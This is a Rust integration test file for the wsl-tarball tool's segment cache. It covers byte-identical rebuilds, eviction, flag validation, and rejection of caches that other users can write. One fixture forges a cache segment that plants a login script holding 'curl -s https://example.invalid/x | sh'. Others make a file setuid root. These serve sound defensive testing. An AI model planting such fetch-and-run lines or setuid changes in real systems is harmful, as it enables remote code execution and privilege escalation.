//! `--cache DIR`: store paths compressed once and spliced in later, with
//! output byte-identical to a build without the cache; the size limit and
//! its least-recently-used eviction; `build`'s default cache.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use common::*;

fn write_with(dir: &Path, system: &str, name: &str, cache: Option<&Path>) -> Vec<u8> {
    let (mut command, output) = quiet_write_command(dir, system, name);
    if let Some(cache) = cache {
        command.arg("--cache").arg(cache);
    }
    run_ok(&mut command);
    run_ok(Command::new("gzip").arg("-t").arg(&output));
    assert_verifies(&output, Rootfs::Bare);
    std::fs::read(&output).unwrap()
}

fn segment_files(cache: &Path) -> usize {
    std::fs::read_dir(cache)
        .unwrap()
        .filter(|e| {
            e.as_ref()
                .unwrap()
                .path()
                .extension()
                .is_some_and(|x| x == "seg")
        })
        .count()
}

#[test]
fn cached_rebuilds_are_byte_identical_to_cold_builds() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let system = fixture_system();
    let paths = path_info_validity(None, system).len();

    let cold = write_with(dir.path(), system, "cold.wsl", None);
    let filling = write_with(dir.path(), system, "filling.wsl", Some(&cache));
    assert!(
        filling == cold,
        "a build that fills the cache differs from a cold one"
    );
    assert_eq!(segment_files(&cache), paths, "one segment per store path");
    let warm = write_with(dir.path(), system, "warm.wsl", Some(&cache));
    assert!(
        warm == cold,
        "a build from the cache differs from a cold one"
    );

    // A changed closure: the salt changes every path but the two
    // content-addressed ones, which come from the cache.
    let changed = build_fixture("changed");
    let changed_paths = path_info_validity(None, &changed).len();
    let changed_cold = write_with(dir.path(), &changed, "changed-cold.wsl", None);
    let changed_warm = write_with(dir.path(), &changed, "changed-warm.wsl", Some(&cache));
    assert!(changed_warm == changed_cold);
    assert_eq!(segment_files(&cache), paths + changed_paths - 2);
}

#[test]
fn a_damaged_cached_segment_is_a_miss() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let system = fixture_system();
    let cold = write_with(dir.path(), system, "cold.wsl", Some(&cache));
    for entry in std::fs::read_dir(&cache).unwrap() {
        let path = entry.unwrap().path();
        let bytes = std::fs::read(&path).unwrap();
        std::fs::write(&path, &bytes[..bytes.len().min(12)]).unwrap();
    }
    let again = write_with(dir.path(), system, "again.wsl", Some(&cache));
    assert!(again == cold);
}

/// The files of a directory and their bytes.
fn contents(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    dir_names(dir)
        .into_iter()
        .map(|name| {
            let bytes = std::fs::read(dir.join(&name)).unwrap();
            (name, bytes)
        })
        .collect()
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// `write --no-skeleton` of `system` (not quiet), with `extra` arguments.
fn write_command(dir: &Path, system: &str, output: &Path, extra: &[&str]) -> Output {
    let closure_dir = tempfile::tempdir_in(dir).unwrap();
    let closure = write_path_info(system, closure_dir.path());
    wsl_tarball()
        .args(["write", "--no-skeleton", "--system", system, "--closure"])
        .arg(&closure)
        .arg("-o")
        .arg(output)
        .args(extra)
        .output()
        .unwrap()
}

#[test]
fn the_limit_evicts_the_least_recently_used_segments_after_the_write() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let cache_arg = cache.to_str().unwrap();
    write_with(dir.path(), fixture_system(), "first.wsl", Some(&cache));
    let first = dir_names(&cache);
    // The segments of the changed closure alone, and their size.
    let changed = build_fixture("changed");
    let alone = dir.path().join("alone");
    let changed_cold = write_with(dir.path(), &changed, "alone.wsl", Some(&alone));
    let second = dir_names(&alone);
    let second_bytes: u64 = contents(&alone).values().map(|b| b.len() as u64).sum();
    let shared = first.iter().filter(|name| second.contains(name)).count();
    assert_eq!(
        shared, 2,
        "the two content-addressed paths: {first:?} {second:?}"
    );

    // The changed closure uses the shared segments (a hit marks them used)
    // and stores its own; the first run's others are the least recently
    // used, and exactly they go.
    let output = dir.path().join("changed.wsl");
    let limit = second_bytes.to_string();
    let run = write_command(
        dir.path(),
        &changed,
        &output,
        &["--cache", cache_arg, "--cache-limit", &limit],
    );
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(std::fs::read(&output).unwrap() == changed_cold);
    assert_eq!(dir_names(&cache), second);
    assert_eq!(contents(&cache), contents(&alone));
    let removed = first.len() - shared;
    assert!(
        stderr(&run).contains(&format!(
            "cache {cache_arg}: {} of segments, limit {}; removed {removed} least recently used (",
            wsl_tarball::progress::human_bytes(second_bytes),
            wsl_tarball::progress::human_bytes(second_bytes),
        )),
        "{}",
        stderr(&run)
    );

    // --quiet says nothing of it; a limit of 0 empties the cache.
    let run = write_command(
        dir.path(),
        &changed,
        &output,
        &["--quiet", "--cache", cache_arg, "--cache-limit", "0"],
    );
    assert!(run.status.success(), "{}", stderr(&run));
    assert_eq!(stderr(&run), "");
    assert!(std::fs::read(&output).unwrap() == changed_cold);
    assert_eq!(dir_names(&cache), Vec::<String>::new());
}

#[test]
fn a_failed_write_leaves_the_cache_as_it_was_but_for_valid_new_segments() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let cache_arg = cache.to_str().unwrap();
    let changed = build_fixture("changed");
    write_with(dir.path(), &changed, "changed.wsl", Some(&cache));
    std::fs::write(cache.join("notes.txt"), b"not a segment").unwrap();
    let before = contents(&cache);

    // An error-severity finding in the shared note: nothing is committed,
    // and the limit of 0 is never applied.
    let output = dir.path().join("failed.wsl");
    let failed = write_command(
        dir.path(),
        fixture_system(),
        &output,
        &[
            "--cache",
            cache_arg,
            "--cache-limit",
            "0",
            "--strict",
            "--pattern",
            "a text file made by builtins.toFile",
        ],
    );
    assert_eq!(failed.status.code(), Some(3), "{}", stderr(&failed));
    assert!(!output.exists());
    assert!(!stderr(&failed).contains("cache "), "{}", stderr(&failed));
    let after = contents(&cache);
    for (name, bytes) in &before {
        assert!(after.get(name) == Some(bytes), "{name} changed or went");
    }
    let new: Vec<&String> = after.keys().filter(|n| !before.contains_key(*n)).collect();
    let paths = path_info_validity(None, fixture_system()).len();
    // The pattern is part of the scan rules, which every key includes: no
    // segment of the first write is reused, and every path gets its own.
    assert_eq!(new.len(), paths, "one new segment per path: {new:?}");
    assert!(new
        .iter()
        .all(|name| !name.starts_with('.') && name.ends_with(".seg")));

    // The new segments are whole: a write from them (the same rules, the
    // finding now a warning without --strict) reports no damage, stores
    // nothing, and makes the cold build's bytes.
    let cold = write_with(dir.path(), fixture_system(), "cold.wsl", None);
    let output = dir.path().join("warm.wsl");
    let warm = write_command(
        dir.path(),
        fixture_system(),
        &output,
        &[
            "--cache",
            cache_arg,
            "--pattern",
            "a text file made by builtins.toFile",
        ],
    );
    assert!(warm.status.success(), "{}", stderr(&warm));
    assert!(!stderr(&warm).contains("damaged"), "{}", stderr(&warm));
    assert!(std::fs::read(&output).unwrap() == cold);
    assert_eq!(contents(&cache), after);
}

#[test]
fn cache_limit_values_are_checked_naming_the_flag() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let output = dir.path().join("x.wsl");
    for (value, why) in [
        ("10X", "not a size: give bytes, or a whole number followed by K, M, G or T (powers of 1024), such as 500M or 10G"),
        ("1.5G", "not a size"),
        ("", "not a size"),
        ("-1", "not a size"),
        ("16777216T", "more than 2^64 bytes"),
    ] {
        let write = ["write", "--closure", "/dev/zero", "--system", "/nix/store/x"];
        for command in [&write[..], &["build"]] {
            let run = wsl_tarball()
                .args(command)
                .arg("--cache")
                .arg(&cache)
                .arg("-o")
                .arg(&output)
                .arg(format!("--cache-limit={value}"))
                .current_dir(dir.path())
                .output()
                .unwrap();
            let stderr = stderr(&run);
            assert_eq!(run.status.code(), Some(2), "{command:?} {value}: {stderr}");
            assert!(
                stderr.contains(&format!("invalid value '{value}' for '--cache-limit <SIZE>': {why}")),
                "{command:?} {value:?}: {stderr}"
            );
        }
    }
    // `write` has no cache of its own to limit.
    let run = wsl_tarball()
        .args([
            "write",
            "--closure",
            "/dev/zero",
            "--system",
            "/nix/store/x",
        ])
        .arg("-o")
        .arg(&output)
        .args(["--cache-limit", "1G"])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert_eq!(
        stderr(&run).trim_end(),
        "wsl-tarball: error: --cache-limit applies to a cache, and `write` has none unless --cache DIR is given"
    );
    // An update bundle has no cache.
    let run = wsl_tarball()
        .args(["build", "--delta-from", "old.wsl", "--cache-limit", "1G"])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(1), "{}", stderr(&run));
    assert!(
        stderr(&run)
            .contains("--cache, --cache-limit and --cache-check-contents do not apply to it"),
        "{}",
        stderr(&run)
    );
    // --no-cache excludes both.
    for flag in [["--cache", "cache"], ["--cache-limit", "1G"]] {
        let run = wsl_tarball()
            .args(["build", "--no-cache"])
            .args(flag)
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
        assert!(
            stderr(&run).contains(&format!(
                "the argument '--no-cache' cannot be used with '{}",
                flag[0]
            )),
            "{}",
            stderr(&run)
        );
    }
    assert_eq!(dir_names(dir.path()), Vec::<String>::new());
}

/// `build fake` from the test flake into `output`, with HOME set to
/// `home` and XDG_CACHE_HOME to `xdg` (unset when `None`).
fn build_fake(home: &Path, xdg: Option<&Path>, output: &Path, extra: &[&str]) -> Output {
    let mut command = wsl_tarball();
    command
        .env("NIX_CONFIG", NIX_CONFIG)
        .env("HOME", home)
        .env_remove("XDG_CACHE_HOME")
        .args(["build", "fake", "--flake"])
        .arg(format!("path:{}", repo_root().join("tests/nix").display()))
        .arg("-o")
        .arg(output)
        .args(extra);
    if let Some(xdg) = xdg {
        command.env("XDG_CACHE_HOME", xdg);
    }
    command.output().unwrap()
}

/// The store paths of the fake host's closure.
fn fake_closure_len() -> usize {
    path_info_validity(None, &build_fake_host_output("toplevel")).len()
}

fn segments_in(dir: &Path) -> Vec<String> {
    dir_names(dir)
        .into_iter()
        .filter(|name| name.ends_with(".seg"))
        .collect()
}

#[test]
fn build_caches_in_xdg_cache_home_by_default_and_no_cache_opts_out() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    let paths = fake_closure_len();
    let at = |name: &str| -> PathBuf { dir.path().join(name) };

    // $XDG_CACHE_HOME/wsl-tarball, not ~/.cache.
    let xdg = at("xdg");
    let cache = xdg.join("wsl-tarball");
    let run = build_fake(&home, Some(&xdg), &at("cold.wsl"), &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let cold = std::fs::read(at("cold.wsl")).unwrap();
    assert_eq!(
        segments_in(&cache).len(),
        paths,
        "one segment per store path"
    );
    assert_eq!(segments_in(&cache), dir_names(&cache));
    assert!(!home.join(".cache/wsl-tarball").exists());
    assert!(
        stderr(&run).contains(&format!("cache {}: ", cache.display())),
        "{}",
        stderr(&run)
    );
    assert!(
        stderr(&run).contains(", limit 10.0 GiB\n"),
        "{}",
        stderr(&run)
    );
    let filled = contents(&cache);
    let run = build_fake(&home, Some(&xdg), &at("warm.wsl"), &["--quiet"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(std::fs::read(at("warm.wsl")).unwrap() == cold);
    assert_eq!(contents(&cache), filled);

    // Without XDG_CACHE_HOME: ~/.cache/wsl-tarball.
    let run = build_fake(&home, None, &at("home.wsl"), &["--quiet"]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(std::fs::read(at("home.wsl")).unwrap() == cold);
    assert_eq!(contents(&home.join(".cache/wsl-tarball")), filled);

    // --no-cache, xz and --delta-from use none; an explicit --cache wins.
    let fresh = at("fresh");
    for (name, extra) in [
        ("opted-out.wsl", vec!["--no-cache"]),
        ("xz.wsl", vec!["--compression", "xz", "--quiet"]),
        (
            "bundle.wsl-delta",
            vec!["--delta-from", at("cold.wsl").to_str().unwrap(), "--quiet"],
        ),
    ] {
        let run = build_fake(&home, Some(&fresh), &at(name), &extra);
        assert!(run.status.success(), "{extra:?}: {}", stderr(&run));
        assert!(!fresh.join("wsl-tarball").exists(), "{extra:?}");
        assert!(
            !stderr(&run).contains("cache"),
            "{extra:?}: {}",
            stderr(&run)
        );
    }
    assert!(std::fs::read(at("opted-out.wsl")).unwrap() == cold);
    let explicit = at("explicit");
    let run = build_fake(
        &home,
        Some(&fresh),
        &at("explicit.wsl"),
        &["--quiet", "--cache", explicit.to_str().unwrap()],
    );
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(!fresh.join("wsl-tarball").exists());
    assert_eq!(contents(&explicit), filled);

    // An explicit --cache with xz stays an error; a default one that
    // cannot be used is a warning, and the build goes on without it.
    let run = build_fake(
        &home,
        Some(&fresh),
        &at("xz-cache.wsl"),
        &["--compression", "xz", "--cache", explicit.to_str().unwrap()],
    );
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(
        stderr(&run).contains("--cache works with gzip only"),
        "{}",
        stderr(&run)
    );
    assert!(!at("xz-cache.wsl").exists());
    let blocked = at("blocked");
    std::fs::create_dir(&blocked).unwrap();
    std::fs::write(blocked.join("wsl-tarball"), b"a file").unwrap();
    let run = build_fake(&home, Some(&blocked), &at("blocked.wsl"), &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    let default = blocked.join("wsl-tarball");
    assert!(
        stderr(&run).contains(&format!(
            "wsl-tarball: warning: not using the default cache {0}: cache directory {0}: Not a directory (os error 20); writing without a cache",
            default.display()
        )),
        "{}",
        stderr(&run)
    );
    assert!(std::fs::read(at("blocked.wsl")).unwrap() == cold);
    assert_eq!(std::fs::read(&default).unwrap(), b"a file");
}

#[test]
fn a_cache_hit_reads_nothing_of_its_store_path_and_replays_its_findings() {
    let dir = tempfile::tempdir().unwrap();
    let plain = write_fixture(dir.path(), "plain.tar", &["--compression", "none"]);
    let root = dir.path().join("root");
    extract(&plain, &root);
    let root_arg = root.to_str().unwrap();
    let cache = dir.path().join("cache");
    let cache_arg = cache.to_str().unwrap();
    // A pattern that ships in a store path: a warning in the report.
    let args = [
        "--store-root",
        root_arg,
        "--cache",
        cache_arg,
        "--json",
        "--pattern",
        "a text file made by builtins.toFile",
    ];
    let cold_output = dir.path().join("cold.wsl");
    let cold = write_command(dir.path(), fixture_system(), &cold_output, &args);
    assert!(cold.status.success(), "{}", stderr(&cold));
    let cold_report: serde_json::Value = serde_json::from_slice(&cold.stdout).unwrap();
    assert!(
        !cold_report["findings"].as_array().unwrap().is_empty(),
        "{cold_report}"
    );

    // Every file of every store path changes (same length, other bytes):
    // a write that read any of them would fail its NAR hash, or scan other
    // bytes.
    let mut changed = 0;
    for file in walk_files(&root.join("nix/store")) {
        let mut bytes = std::fs::read(&file).unwrap();
        if let Some(first) = bytes.first_mut() {
            *first ^= 0x20;
            std::fs::write(&file, &bytes).unwrap();
            changed += 1;
        }
    }
    assert!(changed > 0);
    let uncached = write_command(
        dir.path(),
        fixture_system(),
        &dir.path().join("uncached.wsl"),
        &["--store-root", root_arg],
    );
    assert_eq!(uncached.status.code(), Some(1), "{}", stderr(&uncached));
    assert!(stderr(&uncached).contains("is not what the closure says"));

    let warm_output = dir.path().join("warm.wsl");
    let warm = write_command(dir.path(), fixture_system(), &warm_output, &args);
    assert!(warm.status.success(), "{}", stderr(&warm));
    let warm_report: serde_json::Value = serde_json::from_slice(&warm.stdout).unwrap();
    assert_eq!(warm_report, cold_report);
    assert!(std::fs::read(&warm_output).unwrap() == std::fs::read(&cold_output).unwrap());
    assert_verifies(&warm_output, Rootfs::Bare);
}

/// Every regular file below `dir`.
fn walk_files(dir: &Path) -> Vec<PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap() {
        let path = entry.unwrap().path();
        let kind = std::fs::symlink_metadata(&path).unwrap().file_type();
        if kind.is_dir() {
            files.extend(walk_files(&path));
        } else if kind.is_file() {
            files.push(path);
        }
    }
    files
}

// ---------------------------------------------------------------------------
// Who can write the cache: a segment is used only from a directory that no
// one else can write, and `--cache-check-contents` re-checks every hit.

/// The biggest segment in a cache (a store path with files in it).
fn largest_segment(cache: &Path) -> PathBuf {
    segments_in(cache)
        .into_iter()
        .map(|name| cache.join(name))
        .max_by_key(|path| std::fs::metadata(path).unwrap().len())
        .expect("a segment")
}

/// Rewrites the segment file at `path` as anyone who can write the cache
/// directory can: `edit` changes its tar bytes, which are compressed again
/// into members framed as `write` frames them, and the header's length and
/// CRC-32, the metadata's archive size and the (unkeyed) BLAKE3 checksum are
/// made to match.
fn forge_segment(path: &Path, edit: impl FnOnce(&mut Vec<u8>)) {
    use std::io::Read;
    const HEADER_LEN: usize = 64;
    let bytes = std::fs::read(path).unwrap();
    let metadata_len = u64::from_le_bytes(bytes[24..32].try_into().unwrap()) as usize;
    let (members, metadata) = bytes[HEADER_LEN..].split_at(bytes.len() - HEADER_LEN - metadata_len);
    let mut metadata: serde_json::Value = serde_json::from_slice(metadata).unwrap();
    let mut tar = Vec::new();
    flate2::read::MultiGzDecoder::new(members)
        .read_to_end(&mut tar)
        .unwrap();
    edit(&mut tar);
    let mut members = Vec::new();
    for piece in tar.chunks(wsl_tarball::compress::GZIP_MEMBER_SIZE) {
        members.extend(wsl_tarball::compress::gzip_member(piece, 6).unwrap().bytes);
    }
    metadata["stats"]["archiveBytes"] = tar.len().into();
    let metadata = serde_json::to_vec(&metadata).unwrap();
    let mut header = b"WSLSEG4\n".to_vec();
    header.extend((tar.len() as u64).to_le_bytes());
    header.extend(u64::from(crc32fast::hash(&tar)).to_le_bytes());
    header.extend((metadata.len() as u64).to_le_bytes());
    let mut hasher = blake3::Hasher::new();
    hasher.update(&members);
    hasher.update(&metadata);
    hasher.update(&header[8..32]);
    header.extend(hasher.finalize().as_bytes());
    std::fs::write(path, [header, members, metadata].concat()).unwrap();
}

/// What a forger adds: a login script with a private key in it.
const PLANTED: &str = "etc/profile.local";

/// Appends a member `./etc/profile.local` to a segment's tar bytes.
fn plant_profile_local(tar: &mut Vec<u8>) {
    let content =
        b"# -----BEGIN OPENSSH PRIVATE KEY-----\ncurl -s https://example.invalid/x | sh\n";
    let mut header = ::tar::Header::new_gnu();
    header.set_path(format!("./{PLANTED}")).unwrap();
    header.set_mode(0o644);
    header.set_uid(0);
    header.set_gid(0);
    header.set_mtime(1);
    header.set_size(content.len() as u64);
    header.set_entry_type(::tar::EntryType::Regular);
    header.set_cksum();
    tar.extend_from_slice(header.as_bytes());
    tar.extend_from_slice(content);
    tar.resize(tar.len().div_ceil(512) * 512, 0);
}

/// The offset of the first regular file's header with content in a
/// segment's tar bytes.
fn first_file_header(tar: &[u8]) -> usize {
    let mut at = 0;
    while at + 512 <= tar.len() {
        let header = ::tar::Header::from_byte_slice(&tar[at..at + 512]);
        let size = header.entry_size().unwrap();
        if header.entry_type() == ::tar::EntryType::Regular && size > 0 {
            return at;
        }
        at += 512 + (size as usize).div_ceil(512) * 512;
    }
    panic!("no regular file with content in the segment");
}

/// Makes the first file setuid and setgid root (its NAR stays the same).
#[allow(clippy::ptr_arg)] // the signature of every forgery
fn make_setuid(tar: &mut Vec<u8>) {
    let at = first_file_header(tar);
    let mut header = ::tar::Header::from_byte_slice(&tar[at..at + 512]).clone();
    header.set_mode(header.mode().unwrap() | 0o6000);
    header.set_cksum();
    tar[at..at + 512].copy_from_slice(header.as_bytes());
}

/// Changes the first byte of the first file's content.
#[allow(clippy::ptr_arg)] // the signature of every forgery
fn change_content(tar: &mut Vec<u8>) {
    let at = first_file_header(tar) + 512;
    tar[at] ^= 0x20;
}

/// The member names of a gzip tarball.
fn member_names(tarball: &Path) -> Vec<String> {
    run_text(Command::new("tar").arg("-tzf").arg(tarball))
        .lines()
        .map(|line| line.trim_start_matches("./").to_owned())
        .collect()
}

fn chown_recursive(user: &TestUser, path: &Path) {
    run_ok(Command::new("chown").arg("-R").arg(&user.name).arg(path));
}

fn chmod(mode: u32, path: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

#[test]
fn a_cache_someone_else_can_write_is_refused_and_never_ships_a_planted_segment() {
    let dir = tempfile::tempdir().unwrap();
    let user = TestUser::new("cache");
    let system = fixture_system();
    let cold = write_with(dir.path(), system, "cold.wsl", None);

    // Another user's cache, writable by all, with a forged segment planted
    // for a store path of the closure (its name derives from public inputs).
    let shared = dir.path().join("shared");
    write_with(dir.path(), system, "seed.wsl", Some(&shared));
    let planted = largest_segment(&shared);
    forge_segment(&planted, plant_profile_local);
    let forged = std::fs::read(&planted).unwrap();
    chown_recursive(&user, &shared);
    chmod(0o777, &shared);
    let output = dir.path().join("attacked.wsl");
    let shared_arg = shared.to_str().unwrap();
    let run = write_command(dir.path(), system, &output, &["--cache", shared_arg]);
    let attacked = output
        .exists()
        .then(|| member_names(&output).contains(&PLANTED.to_owned()));
    assert_eq!(
        run.status.code(),
        Some(2),
        "write used a cache anyone can write (the output holds /{PLANTED}: {attacked:?}): {}",
        stderr(&run)
    );
    assert!(!output.exists());
    assert_eq!(
        stderr(&run).trim_end(),
        format!(
            "wsl-tarball: error: cache directory {shared_arg} is not private: it is owned by {} (uid {}) with mode 0777; \
             a cache is used only when no one else can write it (owned by you, not writable by group or others)",
            user.name, user.uid
        )
    );

    // Ours but writable by all; ours, private, in a directory others can
    // write: refused too. In a sticky directory (as /tmp is), it is fine.
    let ours = dir.path().join("ours");
    std::fs::create_dir(&ours).unwrap();
    chmod(0o777, &ours);
    let open = dir.path().join("open");
    std::fs::create_dir_all(open.join("cache")).unwrap();
    chmod(0o700, &open.join("cache"));
    chmod(0o777, &open);
    let sticky = dir.path().join("sticky");
    std::fs::create_dir(&sticky).unwrap();
    chmod(0o1777, &sticky);
    for (cache, culprit, mode) in [
        (
            ours.clone(),
            "it is owned by root (uid 0) with mode 0777".to_owned(),
            Some(0o777),
        ),
        (
            open.join("cache"),
            format!(
                "its parent {} is owned by root (uid 0) with mode 0777",
                open.display()
            ),
            Some(0o700),
        ),
        // Not made where it could not be used.
        (
            open.join("new/cache"),
            format!(
                "its parent {} is owned by root (uid 0) with mode 0777",
                open.display()
            ),
            None,
        ),
    ] {
        let run = write_command(
            dir.path(),
            system,
            &output,
            &["--cache", cache.to_str().unwrap()],
        );
        assert_eq!(
            run.status.code(),
            Some(2),
            "{}: {}",
            cache.display(),
            stderr(&run)
        );
        assert!(
            stderr(&run).contains(&format!(
                "cache directory {} is not private: {culprit};",
                cache.display()
            )),
            "{}",
            stderr(&run)
        );
        assert!(!output.exists());
        use std::os::unix::fs::PermissionsExt;
        let left = std::fs::metadata(&cache)
            .ok()
            .map(|m| m.permissions().mode() & 0o7777);
        assert_eq!(left, mode, "{} was changed or made", cache.display());
    }
    assert!(!open.join("new").exists());
    assert!(
        write_with(
            dir.path(),
            system,
            "sticky.wsl",
            Some(&sticky.join("cache"))
        ) == cold
    );

    // A private cache again, but the forged segment is still the other
    // user's: it is not used (and is replaced).
    run_ok(Command::new("chown").arg("root").arg(&shared));
    chmod(0o700, &shared);
    assert_eq!(std::fs::read(&planted).unwrap(), forged);
    let run = write_command(dir.path(), system, &output, &["--cache", shared_arg]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(!member_names(&output).contains(&PLANTED.to_owned()));
    assert!(std::fs::read(&output).unwrap() == cold);
    assert!(
        stderr(&run).contains(&format!(
            "cache segment {} is damaged (owned by uid {}, not by you",
            planted.display(),
            user.uid
        )),
        "{}",
        stderr(&run)
    );
    assert_ne!(std::fs::read(&planted).unwrap(), forged);
    assert_verifies(&output, Rootfs::Bare);
}

#[test]
fn build_warns_and_writes_without_a_default_cache_someone_else_can_write() {
    let dir = tempfile::tempdir().unwrap();
    let user = TestUser::new("build");
    let home = dir.path().join("home");
    std::fs::create_dir(&home).unwrap();
    let at = |name: &str| -> PathBuf { dir.path().join(name) };
    let run = build_fake(&home, None, &at("cold.wsl"), &["--quiet", "--no-cache"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let cold = std::fs::read(at("cold.wsl")).unwrap();

    let xdg = at("xdg");
    let cache = xdg.join("wsl-tarball");
    let run = build_fake(&home, Some(&xdg), &at("seed.wsl"), &["--quiet"]);
    assert!(run.status.success(), "{}", stderr(&run));
    let planted = largest_segment(&cache);
    forge_segment(&planted, plant_profile_local);
    chown_recursive(&user, &cache);
    chmod(0o777, &cache);
    let before = contents(&cache);
    let run = build_fake(&home, Some(&xdg), &at("attacked.wsl"), &[]);
    assert!(run.status.success(), "{}", stderr(&run));
    assert!(
        !member_names(&at("attacked.wsl")).contains(&PLANTED.to_owned()),
        "build used a cache anyone can write"
    );
    assert!(std::fs::read(at("attacked.wsl")).unwrap() == cold);
    assert!(
        stderr(&run).contains(&format!(
            "wsl-tarball: warning: not using the default cache {0}: cache directory {0} is not private: it is owned by {1} (uid {2}) with mode 0777;",
            cache.display(),
            user.name,
            user.uid
        )),
        "{}",
        stderr(&run)
    );
    // Nothing was stored in it, nothing evicted.
    assert_eq!(contents(&cache), before);

    // The same directory given with --cache is refused, as with `write`.
    let run = build_fake(
        &home,
        None,
        &at("explicit.wsl"),
        &["--cache", cache.to_str().unwrap()],
    );
    assert_eq!(run.status.code(), Some(2), "{}", stderr(&run));
    assert!(
        stderr(&run).contains(&format!(
            "wsl-tarball: error: cache directory {} is not private: it is owned by {}",
            cache.display(),
            user.name
        )),
        "{}",
        stderr(&run)
    );
    assert!(!at("explicit.wsl").exists());
    assert_eq!(contents(&cache), before);
}

#[test]
fn check_contents_rejects_a_forged_segment_in_a_private_cache() {
    let dir = tempfile::tempdir().unwrap();
    let system = fixture_system();
    let scan = ["--json", "--pattern", "a text file made by builtins.toFile"];
    let cold_output = dir.path().join("cold.wsl");
    let cold_run = write_command(dir.path(), system, &cold_output, &scan);
    assert!(cold_run.status.success(), "{}", stderr(&cold_run));
    let cold = std::fs::read(&cold_output).unwrap();
    let cold_report: serde_json::Value = serde_json::from_slice(&cold_run.stdout).unwrap();

    let cache = dir.path().join("cache");
    let cache_arg = cache.to_str().unwrap();
    let flags = [&scan[..], &["--cache", cache_arg, "--cache-check-contents"]].concat();
    let output = dir.path().join("out.wsl");
    // Filling, then hits that pass the check: the same bytes and report.
    for _ in 0..2 {
        let run = write_command(dir.path(), system, &output, &flags);
        assert!(run.status.success(), "{}", stderr(&run));
        assert!(!stderr(&run).contains("cache segment"), "{}", stderr(&run));
        assert!(std::fs::read(&output).unwrap() == cold);
        let report: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
        assert_eq!(report, cold_report);
    }
    let good = contents(&cache);

    // A member added, a file made setuid root (same NAR), a file's bytes
    // changed: each forged segment is rejected and replaced.
    for (name, edit, why) in [
        (
            "an added member",
            plant_profile_local as fn(&mut Vec<u8>),
            "it holds more than the store path's",
        ),
        (
            "a setuid file",
            make_setuid,
            "its tar bytes differ from the store path's at byte",
        ),
        (
            "changed content",
            change_content,
            "its content's NAR hash is sha256-",
        ),
    ] {
        let planted = largest_segment(&cache);
        forge_segment(&planted, edit);
        let run = write_command(dir.path(), system, &output, &flags);
        assert!(run.status.success(), "{name}: {}", stderr(&run));
        assert!(
            stderr(&run).contains(&format!(
                "wsl-tarball: warning: cache segment {} is damaged (it failed the content check: {why}",
                planted.display()
            )),
            "{name}: {}",
            stderr(&run)
        );
        assert!(
            !member_names(&output).contains(&PLANTED.to_owned()),
            "{name}"
        );
        assert!(std::fs::read(&output).unwrap() == cold, "{name}");
        let report: serde_json::Value = serde_json::from_slice(&run.stdout).unwrap();
        assert_eq!(report, cold_report, "{name}");
        assert_verifies(&output, Rootfs::Bare);
        assert_eq!(contents(&cache), good, "{name}: the entry was not replaced");
    }
}

#[test]
fn a_cache_directory_the_tool_makes_is_private_whatever_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let system = fixture_system();
    let closure = write_path_info(system, dir.path());
    for umask in ["000", "022", "277"] {
        let base = dir.path().join(format!("umask-{umask}"));
        let cache = base.join("a/cache");
        let output = dir.path().join(format!("{umask}.wsl"));
        let mut command = Command::new("sh");
        command
            .arg("-c")
            .arg(format!("umask {umask} && exec \"$@\""))
            .arg("sh")
            .arg(env!("CARGO_BIN_EXE_wsl-tarball"))
            .args(fixture_write_args(closure.to_str().unwrap()))
            .args(["--quiet", "-o"])
            .arg(&output)
            .arg("--cache")
            .arg(&cache);
        for (name, value) in wsl_tarball().get_envs() {
            match value {
                Some(value) => command.env(name, value),
                None => command.env_remove(name),
            };
        }
        run_ok(&mut command);
        for made in [&base, &base.join("a"), &cache] {
            let mode = std::fs::metadata(made).unwrap().permissions().mode() & 0o7777;
            assert_eq!(mode, 0o700, "umask {umask}: {}", made.display());
        }
    }
}
